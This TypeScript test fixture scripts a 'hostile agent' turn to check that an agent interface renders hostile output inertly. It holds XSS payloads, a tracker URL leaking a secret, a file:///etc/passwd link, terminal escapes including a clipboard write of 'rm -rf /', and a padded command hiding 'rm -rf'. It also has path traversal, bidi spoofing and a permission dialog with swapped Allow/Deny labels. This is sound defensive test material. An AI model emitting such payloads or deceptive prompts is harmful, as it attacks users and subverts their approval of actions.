import type { Scenario } from "./Scenario.ts";
import { step } from "./step.ts";

const rightToLeft = "\u202e";
const isolate = "\u2066";
const zeroWidth = "\u200b";
/** The word "run" in tag characters, which are invisible. */
const tagged = String.fromCodePoint(0xe0072, 0xe0075, 0xe006e);

/** Markup that must never run, load or style anything; its misleading links are followed only after a question. Also deep nesting. */
const markdown = [
  '# Results <img src=x onerror="window.__canary = 1">',
  "[Open the report](javascript:window.__canary=1) [again](JaVaScRiPt:window.__canary=1) [data](data:text/html,<script>window.__canary=1</script>)",
  "![pixel](https://tracker.example/pixel.png?secret=abc) ![file](file:///etc/passwd) ![svg](data:image/svg+xml,<svg onload='window.__canary=1'/>)",
  '<script>window.__canary = 1</script><iframe src="https://frame.example"></iframe><style>* { display: none }</style>',
  '<div style="position:fixed;inset:0;z-index:9999">Your session ended. <a href="https://login.example">Sign in</a></div>',
  '<form action="https://collect.example"><input name="q" autofocus onfocus="window.__canary=1"></form>',
  '<a id="documentElement" name="cookie">clobber</a>',
  "[looks like yours](https://аррle.example/login) [https://bank.example](https://other.example)",
  "```html\n</code></pre><script>window.__canary = 1</script>\n```",
  "| a | b |\n| - | - |\n| <b onclick=window.__canary=1>x</b> | [y](vbscript:x) |",
  `Normal text, then ${rightToLeft}txet desrever${zeroWidth} and ${tagged} tags.`,
  `${">".repeat(400)} deep\n\n${"*a_".repeat(2000)}\n\n${"[".repeat(2000)}`,
].join("\n\n");

/** Output that tries to leave its box: clipboard, title, hyperlink, cursor, erase, hidden text, a huge parameter, a device command. */
const output = [
  "\u001b]52;c;cm0gLXJmIC8=\u0007\u001b]0;You are root\u0007",
  "\u001b]8;;javascript:window.__canary=1\u0007click\u001b]8;;\u0007\n",
  "\u001b[2J\u001b[H\u001b[1A\u001b[2KPermission granted by user\n",
  "\u001b[8mhidden\u001b[28m \u001b[999999999999m\u001b[38;5;999mcolour\u001b[0m \u001bP+q544e\u001b\\\u009b31m\n",
  `safe.txt ${rightToLeft}gpj.exe \u0000 \u0008\u0008\u0008\n`,
].join("");

const command = `ls -la${" ".repeat(300)}; rm -rf ./${zeroWidth}important ${isolate}# harmless`;

/** Texts of an agent that tries to deceive or to break the page, in every kind of place; nothing of it may take effect. */
export const hostile: Scenario = {
  name: "hostile",
  title: "A hostile agent",
  suggestion: "Show me what you found",
  steps: [
    step.think("<img src=x onerror=window.__canary=1> [x](javascript:window.__canary=1)"),
    step.say(markdown),
    step.tool("call_1", "read_file", {
      input: {
        path: `../../etc/${rightToLeft}dwssap`,
        ["__proto__"]: { polluted: true },
        constructor: { prototype: { polluted: true } },
      },
      title: `Read README.md${rightToLeft}dm.TERCES<script>window.__canary=1</script>`,
      kind: "read",
      patch: { locations: [{ path: `src/${rightToLeft}sj.ppa/..\\..\\windows`, line: 1e9 }] },
    }),
    step.begin("call_1"),
    step.content("call_1", {
      type: "content",
      block: { type: "resource_link", uri: "javascript:window.__canary=1", name: "report.pdf" },
    }),
    step.content("call_1", {
      type: "content",
      block: { type: "image", mimeType: "image/png", uri: "https://tracker.example/second.png" },
    }),
    step.content("call_1", {
      type: "diff",
      path: "<b>../x</b>",
      oldText: "if (admin) {\n",
      newText: `if (admin${isolate}) { // ${rightToLeft}}\n`,
    }),
    step.complete("call_1", markdown),
    step.part("source", {
      type: "source",
      citation: { title: "Harmless <b>source</b>", url: "javascript:window.__canary=1" },
    }),
    step.part("unknown", { type: "unknown", name: "<script>", value: { html: "<script>window.__canary=1</script>" } }),
    step.tool("call_2", `run_${"x".repeat(300)}`, {
      input: { command },
      title: `git status${" ".repeat(200)}(safe, read-only)`,
      kind: "execute",
      patch: { content: [{ type: "terminal", terminalId: "hostile", command, output: "" }] },
    }),
    step.ask({
      request: {
        kind: "permission",
        id: "call_2",
        title: "System: this was already approved",
        reason: `Click Deny to allow. ${rightToLeft}!efas si sihT\n\n\n\n\n\n\n\n\n\nAllowed by your administrator.`,
        options: [
          { id: "yes", label: "Reject", kind: "allow_once" },
          { id: "always", label: `Deny${zeroWidth}`, kind: "allow_always" },
          { id: "no", label: "Allow once", kind: "reject_once" },
        ],
      },
      granted: [
        step.begin("call_2"),
        step.output("call_2", "hostile", output, { code: 0, signal: null }),
        step.complete("call_2", output),
      ],
      denied: [step.say("Nothing ran. <script>window.__canary = 1</script>")],
    }),
    step.say("The end of a hostile turn: ordinary text must still look ordinary."),
  ],
};
